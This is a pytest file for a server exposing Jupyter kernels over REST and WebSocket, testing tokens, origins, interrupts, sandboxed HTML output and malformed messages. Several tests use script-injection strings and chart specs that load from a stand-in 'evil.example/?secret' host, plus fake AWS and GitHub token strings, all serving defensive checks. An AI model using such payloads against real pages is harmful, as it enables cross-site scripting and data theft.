"""Jupyter's kernels at /jupyter: REST, and messages on a WebSocket in both of their forms."""
import base64
import html.parser
import json
import re

import pytest

from serving import Server, wait_until
from websocket import Kernel, Refused, V1, of, text


@pytest.fixture(scope="module")
def server(callers):
    made = Server(callers["user"], "--socket", "none")
    yield made
    assert made.stop() == 0, made.said


@pytest.fixture
def kernel(server):
    reply = server.post("/jupyter/api/kernels", {"name": "python3"})
    assert reply.status == 201, reply
    yield reply.json["id"]
    server.call("DELETE", f"/jupyter/api/kernels/{reply.json['id']}")


@pytest.fixture(params=[False, True], ids=["text", "binary"])
def client(server, kernel, request):
    with Kernel(server, kernel, is_binary=request.param) as made:
        yield made


# --- REST ---


def test_kernels_are_listed_and_ended(server):
    assert server.get("/jupyter/api").json["version"]
    specs = server.get("/jupyter/api/kernelspecs").json
    assert specs["default"] == "python3" and {"python3", "bash"} <= set(specs["kernelspecs"])
    made = server.post("/jupyter/api/kernels").json  # without a body, as Open WebUI does
    assert made["name"] == "python3" and made["execution_state"] == "idle" and made["connections"] == 0
    path = f"/jupyter/api/kernels/{made['id']}"
    assert made["id"] in [k["id"] for k in server.get("/jupyter/api/kernels?1731931").json]
    assert server.get(path).json["id"] == made["id"]
    assert server.call("DELETE", path).status == 204
    assert server.get(path).status == 404 and server.get(path).json["message"]


def test_an_unknown_kernel_is_not_opened(server):
    reply = server.post("/jupyter/api/kernels", {"name": "cobol"})
    assert reply.status == 404 and "kernelspecs" in reply.error["hint"]


def test_a_notebook_has_a_session(server):
    made = server.post("/jupyter/api/sessions", {"path": "a.ipynb", "name": "a", "type": "notebook", "kernel": {"name": "python3"}}).json
    path = f"/jupyter/api/sessions/{made['id']}"
    assert made["kernel"]["name"] == "python3" and made["notebook"]["path"] == "a.ipynb"
    assert server.call("PATCH", path, {"path": "b.ipynb"}).json["path"] == "b.ipynb"
    assert [s["path"] for s in server.get("/jupyter/api/sessions").json] == ["b.ipynb"]
    assert server.call("DELETE", path).status == 204
    assert server.get(path).status == 404
    assert server.get("/jupyter/api/contents").json["content"] == []


def test_tokens_come_as_jupyter_sends_them(server, kernel):
    without = {"Authorization": None}
    assert server.get("/jupyter/api/kernels", headers=without).status == 401
    assert server.get(f"/jupyter/api/kernels?token={server.token}", headers=without).status == 200
    assert server.get("/jupyter/api/kernels?token=wrong", headers=without).status == 401
    assert server.get("/jupyter/api/kernels", headers={"Authorization": f"token {server.token}"}).status == 200
    assert server.get(f"/v1/sessions?token={server.token}", headers=without).status == 401  # only here
    with pytest.raises(Refused) as refused:
        Kernel(server, kernel, token=False)
    assert refused.value.status == 401
    with Kernel(server, kernel, token=False, headers={"Sec-WebSocket-Protocol": f"v1.token.websocket.jupyter.org.{server.token}"}) as client:
        assert text(client.run("print(1)")) == "1\n"


def test_a_page_of_another_origin_does_not_connect(server, kernel):
    with pytest.raises(Refused) as refused:
        Kernel(server, kernel, headers={"Origin": "https://example.org"})
    assert refused.value.status == 403
    with Kernel(server, kernel, headers={"Origin": f"http://127.0.0.1:{server.port}"}):
        pass


# --- messages ---


def test_a_cell_says_what_ipykernel_says(client):
    said = client.run("print('out')\nimport sys\nprint('err', file=sys.stderr)\n6 * 7")
    kinds = [kind for kind, _ in said if kind != "stream"]
    assert kinds[:2] == ["status", "execute_input"] and of(said, "status")[0] == {"execution_state": "busy"}
    assert text(said) == "out\n" and text(said, "stderr") == "err\n"
    assert of(said, "execute_result")[0]["data"] == {"text/plain": "42"}
    assert of(said, "execute_reply") == [{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}]


def test_variables_stay_and_cells_are_numbered(client):
    client.run("x = 1")
    said = client.run("x + 1")
    assert of(said, "execute_result")[0]["data"]["text/plain"] == "2" and of(said, "execute_reply")[0]["execution_count"] == 2


def test_an_exception_is_said_once(client):
    said = client.run("def f():\n    return 1 / 0\nf()")
    (error,) = of(said, "error")
    assert (error["ename"], error["evalue"]) == ("ZeroDivisionError", "division by zero")
    assert "ZeroDivisionError: division by zero" in error["traceback"][-1]
    assert text(said, "stderr") == ""
    assert of(said, "execute_reply")[0]["status"] == "error"
    assert text(client.run("import traceback\ntry:\n    1 / 0\nexcept Exception:\n    traceback.print_exc()"), "stderr").startswith("Traceback")


def test_displays_have_their_forms(client):
    said = client.run("from IPython.display import HTML, display\ndisplay(HTML('<b>shown</b>'))\nprint('then')\nHTML('<i>value</i>')")
    assert page_of(of(said, "display_data")[0]["data"]["text/html"]) == "<b>shown</b>"
    assert page_of(of(said, "execute_result")[0]["data"]["text/html"]) == "<i>value</i>"


class Frame(html.parser.HTMLParser):
    """The elements of a text, with their attributes."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def test_a_notebook_runs_nothing_of_a_program(client):
    page = '<script>parent.x = 1</script>" onload="y()" & &quot; <b>'
    code = f"from IPython.display import display\ndisplay({{'text/html': {page!r}, 'application/javascript': 'z()', 'text/markdown': '<script>', 'text/plain': 'p'}}, raw=True)"
    (shown,) = of(client.run(code), "display_data")
    assert set(shown["data"]) == {"text/html", "text/plain"}
    assert page_of(shown["data"]["text/html"]).endswith(page)


POLICY = "default-src 'none'; img-src data:; font-src data:; style-src 'unsafe-inline'; script-src 'unsafe-inline'"


def page_of(text):
    """The page of a program, in a frame of a frame: only the outer one can say that the inner one goes nowhere."""
    ((tag, outer),) = Frame(text).found
    assert tag == "iframe" and outer["sandbox"] == "allow-scripts" and set(outer) == {"sandbox", "style", "srcdoc"}
    (meta, _, (tag, inner)) = Frame(outer["srcdoc"]).found
    assert meta == ("meta", {"http-equiv": "Content-Security-Policy", "content": f"{POLICY}; frame-src data:"})
    assert tag == "iframe" and inner["sandbox"] == "allow-scripts" and set(inner) == {"sandbox", "style", "src"}
    kind, _, data = inner["src"].partition(",")
    assert kind == "data:text/html;charset=utf-8;base64"
    page = base64.b64decode(data, validate=True).decode()
    head = f'<meta http-equiv=Content-Security-Policy content="{POLICY}">'
    assert page.startswith(head)
    return page[len(head) :]


def shown(client, forms):
    code = f"from IPython.display import display\ndisplay({forms!r}, raw=True)"
    (said,) = of(client.run(code), "display_data")
    return said["data"]


def test_a_drawing_is_a_picture(client):
    """An editor puts it into its page, with its scripts."""
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'
    data = shown(client, {"image/svg+xml": drawing, "text/plain": "p"})
    assert set(data) == {"text/html", "text/plain"}
    ((tag, attributes),) = Frame(page_of(data["text/html"])).found
    assert tag == "img" and set(attributes) == {"style", "src"}
    assert attributes["src"] == "data:image/svg+xml;base64," + base64.b64encode(drawing.encode()).decode()
    assert page_of(shown(client, {"image/svg+xml": drawing, "text/html": "<b>"})["text/html"]) == "<b>"


VEGA, PLOTLY = "application/vnd.vegalite.v5+json", "application/vnd.plotly.v1+json"


@pytest.mark.parametrize(
    "mime,chart",
    [
        (VEGA, {"data": {"url": "https://evil.example/?secret"}, "mark": "bar"}),
        (VEGA, {"data": {"values": [{"u": "https://evil.example"}]}, "mark": "image", "encoding": {"url": {"field": "u"}}}),
        (VEGA, {"mark": "bar", "usermeta": {"embedOptions": {"patch": "https://evil.example"}}}),
        (VEGA, "https://evil.example/spec.json"),
        ("application/vnd.vega.v5+json", {"data": [{"name": "d", "URL": {"signal": "'//evil.example/' + x"}}]}),
        (PLOTLY, {"data": [], "layout": {"images": [{"source": "https://evil.example/?secret"}]}}),
        (PLOTLY, {"data": [], "layout": {"mapbox": {"style": "https://evil.example/style.json"}}}),
        (PLOTLY, {"data": [], "layout": {}, "config": {"topojsonURL": "https://evil.example/"}}),
        (PLOTLY, {"data": [], "config": {"plotlyServerURL": "https://evil.example"}}),
        ("application/geo+json", "https://evil.example"),
    ],
)
def test_a_chart_that_loads_something_is_left_out(client, mime, chart):
    assert shown(client, {mime: chart, "text/plain": "p"}) == {"text/plain": "p"}


def test_a_chart_with_its_data_is_shown(client):
    spec = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"name": "d"}, "datasets": {"d": [{"a": "https://x"}]}, "mark": {"type": "bar"},
            "encoding": {"x": {"field": "a", "type": "nominal"}}}  # fmt: skip
    assert shown(client, {VEGA: spec, "text/plain": "p"})[VEGA] == spec
    figure = {"data": [{"x": [1], "y": [2], "type": "scatter"}], "layout": {"title": {"text": "t"}, "images": []}, "config": {"plotlyServerURL": "https://plot.ly"}}
    assert shown(client, {PLOTLY: figure, "text/plain": "p"})[PLOTLY] == figure


def test_an_editor_finds_no_element_in_a_report(client):
    (error,) = of(client.run("raise ValueError('<img src=x onerror=y()> <A href=\"z\">a</A> <!-- 1 < 2 <style>')"), "error")
    report = "\n".join(error["traceback"])
    assert "<\x1b[0mimg src=x onerror=y()> <\x1b[0mA href=\"z\">a<\x1b[0m/A> <\x1b[0m!-- 1 < 2 <\x1b[0mstyle>" in report, report
    assert "in <module>" in report and error["evalue"].startswith("<img src")


def test_output_is_masked(client):
    said = client.run("print('AKIA' + 'QYLPMN5HHHFPZAM2')\n'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'")
    assert "AKIAQYLPMN5HHHFPZAM2" not in json.dumps(said) and "ghp_a1B2" not in json.dumps(said)


def test_input_is_asked_of_the_client(client):
    id = client.execute("name = input('who? ')\nprint('hello', name)", allow_stdin=True)
    said = []
    while not said or said[-1]["header"]["msg_type"] != "input_request":
        said.append(client.receive())
    assert said[-1]["channel"] == "stdin" and said[-1]["parent_header"]["msg_id"] == id
    client.ask("input_reply", {"value": "Ada", "status": "ok"}, channel="stdin")
    assert "hello Ada\n" in text(client.answers(id))


def answer(client, id, lines):
    """Gives a line whenever the kernel asks. Returns all messages, and what the questions said of passwords."""
    said, passwords = [], []
    while not ({"execute_reply"} <= {kind for kind, _ in said} and ("status", {"execution_state": "idle"}) in said):
        message = client.receive()
        if message["parent_header"].get("msg_id") != id:
            continue
        said.append((message["header"]["msg_type"], message["content"]))
        if said[-1][0] == "input_request":
            passwords.append(said[-1][1]["password"])
            client.ask("input_reply", {"value": lines.pop(0), "status": "ok"}, channel="stdin")
    return said, passwords


def test_a_password_is_asked_for_as_one(client):
    id = client.execute("import getpass\nkey = getpass.getpass('key: ')\nprint(len(key), input())", allow_stdin=True)
    said, passwords = answer(client, id, ["abcd", "shown"])
    assert (text(said), text(said, "stderr"), passwords) == ("key: 4 shown\n", "", [True, False]), said


def test_the_debugger_asks_for_its_commands(client):
    client.run("def f(n):\n    half = n // 2\n    return half / 0\nf(10)")
    said, _ = answer(client, client.execute("%debug", allow_stdin=True), ["p half + 1", "up", "q"])
    assert "-> return half / 0" in text(said) and "(Pdb) 6\n" in text(said) and of(said, "execute_reply")[0]["status"] == "ok", said
    assert "half = 5" in text(client.run("%debug"))  # nobody types


def test_a_variable_named_result_is_a_variable(client):
    assert not of(client.run("result = 5"), "execute_result")
    assert of(client.run("result = 6\n7"), "execute_result")[0]["data"]["text/plain"] == "7"


@pytest.mark.parametrize("code", ["1 / 0", "raise ExceptionGroup('two', [ValueError(1), KeyError(2)])", "import sys\nprint('before', file=sys.stderr)\n1 / 0", "x = = 1"])
def test_an_exception_is_no_output(client, code):
    said = client.run(code)
    assert text(said, "stderr") == ("before\n" if "before" in code else "") and len(of(said, "error")) == 1, said


def test_without_stdin_the_input_is_at_its_end(client):
    assert of(client.run("input()"), "error")[0]["ename"] == "EOFError"


def test_prompts_are_helped(client):
    client.run("frequency = 3")
    (reply,) = of(client.answers(client.ask("complete_request", {"code": "é = freq", "cursor_pos": 8})), "complete_reply")
    assert reply["matches"] == ["frequency"] and (reply["cursor_start"], reply["cursor_end"]) == (4, 8)
    (reply,) = of(client.answers(client.ask("inspect_request", {"code": "len(", "cursor_pos": 3, "detail_level": 0})), "inspect_reply")
    assert reply["found"] and "number of items" in reply["data"]["text/plain"]
    (reply,) = of(client.answers(client.ask("inspect_request", {"code": "nothing_here", "cursor_pos": 3})), "inspect_reply")
    assert not reply["found"]
    for asked, key in (("kernel_info", "language_info"), ("comm_info", "comms"), ("history", "history"), ("is_complete", "status")):
        assert key in of(client.answers(client.ask(f"{asked}_request", {"code": ""})), f"{asked}_reply")[0]


def test_what_follows_a_failed_cell_is_not_run(client):
    first = client.execute("input()\n1/0", allow_stdin=True)  # it waits until the others are in the queue
    while client.receive()["header"]["msg_type"] != "input_request":
        pass
    second, third = client.execute("print(2)"), client.execute("3", stop_on_error=False)
    client.answers(client.ask("kernel_info_request", {}))
    client.ask("input_reply", {"value": "", "status": "ok"}, channel="stdin")
    client.answers(first)
    said = {}
    while len(said) < 2:
        m = client.receive()
        if m["header"]["msg_type"] == "execute_reply":
            said[m["parent_header"]["msg_id"]] = m["content"]["status"]
    assert said == {second: "aborted", third: "aborted"}


def wait_for_stream(client, part):
    """Until the running cell has printed it."""
    while True:
        m = client.receive()
        if m["header"]["msg_type"] == "stream" and part in m["content"]["text"]:
            return


def test_a_cell_that_handles_its_interrupt_is_no_failure(server, kernel, client):
    id = client.execute("import time\nprint('begun', flush=True)\ntry:\n    time.sleep(60)\nexcept KeyboardInterrupt:\n    print('stopped')\n'went on'")
    while client.receive()["header"]["msg_type"] != "stream":
        pass
    assert server.post(f"/jupyter/api/kernels/{kernel}/interrupt").status == 204
    said = client.answers(id)
    assert of(said, "execute_reply")[0]["status"] == "ok" and of(said, "execute_result")[0]["data"]["text/plain"] == "'went on'", said
    assert not of(said, "error") and text(said) == "stopped\n", said


def test_a_long_call_has_its_grace(callers):
    """Its time limit is the largest there is, and its grace comes out of that."""
    with Server(callers["user"], "--socket", "none", env={"BELLJAR_INTERRUPT_GRACE_S": "10"}) as server:
        kernel = server.post("/jupyter/api/kernels").json["id"]
        with Kernel(server, kernel) as client:
            client.run("kept = 5\nimport signal, time")
            id = client.execute("signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\nprint('begun', flush=True)\ntime.sleep(2)\nsignal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])")
            while client.receive()["header"]["msg_type"] != "stream":
                pass
            assert server.post(f"/jupyter/api/kernels/{kernel}/interrupt").status == 204
            assert of(client.answers(id), "error")[0]["ename"] == "KeyboardInterrupt"
            assert of(client.run("kept"), "execute_result")[0]["data"]["text/plain"] == "5"


def test_an_interrupt_ends_the_cell_and_keeps_variables(server, kernel, client):
    client.run("x = 5")
    id = client.execute("print('begun', flush=True)\nimport time\nwhile True: time.sleep(0.01)")
    wait_for_stream(client, "begun")
    assert server.post(f"/jupyter/api/kernels/{kernel}/interrupt").status == 204
    assert of(client.answers(id), "error")[0]["ename"] == "KeyboardInterrupt"
    assert of(client.run("x"), "execute_result")[0]["data"]["text/plain"] == "5"
    (reply,) = of(client.answers(client.ask("interrupt_request", {}, channel="control")), "interrupt_reply")
    assert reply["status"] == "ok"


def test_a_restart_forgets_variables_and_ends_the_cell(server, kernel, client):
    client.run("x = 5")
    id = client.execute("print('begun', flush=True)\nimport time\nwhile True: time.sleep(0.01)")
    wait_for_stream(client, "begun")
    assert server.post(f"/jupyter/api/kernels/{kernel}/restart", {}).status == 200
    client.answers(id)
    assert of(client.run("x"), "error")[0]["ename"] == "NameError"


def test_a_kernel_that_ends_by_itself_starts_again(client):
    client.run("x = 1")
    id = client.execute("import os\nos._exit(3)")
    while (m := client.receive())["content"].get("execution_state") != "restarting":
        assert m["header"]["msg_type"] != "execute_reply" or m["content"]["status"] == "error"
    client.answers(id, until_reply=False)
    assert of(client.run("x"), "error")[0]["ename"] == "NameError"


def test_a_kernel_that_is_shut_down_ends_its_connections(server, kernel, client):
    (reply,) = of(client.answers(client.ask("shutdown_request", {"restart": False}, channel="control")), "shutdown_reply")
    assert reply == {"status": "ok", "restart": False}
    code, why = client.read_close()
    assert code == 1000 and "shut" in why
    assert server.get(f"/jupyter/api/kernels/{kernel}").status == 404


def test_all_clients_of_a_kernel_see_what_it_says(server, kernel):
    with Kernel(server, kernel) as one, Kernel(server, kernel, is_binary=True) as two:
        assert server.get(f"/jupyter/api/kernels/{kernel}").json["connections"] == 2
        id = one.execute("print('both')")
        assert text(one.answers(id)) == "both\n" and text(two.answers(id, until_reply=False)) == "both\n"


def test_a_cell_goes_on_without_its_client(server, kernel):
    with Kernel(server, kernel) as client:
        client.execute("import time\nprint('begun', flush=True)\ntime.sleep(0.05)\nx = 7")
        wait_for_stream(client, "begun")
    with Kernel(server, kernel) as client:
        assert of(client.run("x"), "execute_result")[0]["data"]["text/plain"] == "7"


def test_cells_are_recorded(server, kernel, client):
    client.run("'recorded by jupyter'")
    runs = server.get("/v1/runs").json["runs"]
    assert any("recorded by jupyter" in json.dumps(run) for run in runs)


def test_other_languages_have_kernels(server):
    id = server.post("/jupyter/api/kernels", {"name": "bash"}).json["id"]
    with Kernel(server, id) as client:
        assert text(client.run("echo $((6 * 7))")) == "42\n"
    server.call("DELETE", f"/jupyter/api/kernels/{id}")


# --- strangers ---


@pytest.mark.parametrize(
    "message",
    [
        "no json", "[]", "{}", '{"channel": "shell"}', '{"channel": "nowhere", "header": {"msg_id": "a", "msg_type": "b"}, "content": {}}',
        '{"channel": "shell", "header": {"msg_id": 1, "msg_type": "b"}, "content": {}}',
        '{"channel": "shell", "header": {"msg_id": "a", "msg_type": "' + "b" * 99 + '"}, "content": {}}',
        '{"channel": "shell", "header": {"msg_id": "a", "msg_type": "b", "more": "' + "c" * 5000 + '"}, "content": {}}', "[" * 5000,
    ],
)  # fmt: skip
def test_what_is_no_message_ends_the_connection(server, kernel, message):
    with Kernel(server, kernel) as client:
        client.send(message)
        assert client.read_close()[0] == 1007
    assert server.get(f"/jupyter/api/kernels/{kernel}").json["id"] == kernel


@pytest.mark.parametrize("message", [b"", b"\0" * 8, b"\xff" * 64, (6).to_bytes(8, "little") + b"\xff" * 48, (6).to_bytes(8, "little") * 7 + b"shell"])
def test_what_is_no_binary_message_ends_the_connection(server, kernel, message):
    with Kernel(server, kernel, is_binary=True) as client:
        client.send(message)
        assert client.read_close()[0] == 1007


def test_the_form_of_messages_is_that_of_the_subprotocol(server, kernel):
    with Kernel(server, kernel) as client:
        client.send(b"bytes")
        code, why = client.read_close()
        assert code == 1008 and V1 in why


def test_unknown_messages_are_ignored(client):
    client.ask("comm_open", {"comm_id": "1", "target_name": "jupyter.widget", "data": {}})
    client.ask("execute_request", {"code": 5})
    assert text(client.run("print(1)")) == "1\n"


def test_a_kernel_of_somebody_else_is_not_found(server, kernel):
    token = re.search(r"bj_[0-9a-f]{64}", server.who.call("token", "add", "other").text)[0]
    headers = {"Authorization": f"Bearer {token}"}
    wait_until(lambda: server.get("/jupyter/api/kernels", headers=headers).status == 200, "the token is known")
    assert server.get("/jupyter/api/kernels", headers=headers).json == []
    assert server.get(f"/jupyter/api/kernels/{kernel}", headers=headers).status == 404
    with pytest.raises(Refused) as refused:
        Kernel(server, kernel, headers=headers)
    assert refused.value.status == 404


def test_the_server_stops_with_clients_connected(callers):
    made = Server(callers["user"], "--socket", "none")
    id = made.post("/jupyter/api/kernels").json["id"]
    with Kernel(made, id) as client:
        client.run("1")
        made.process.terminate()
        assert client.read_close()[0] == 1001
    assert made.wait() == 0, made.said
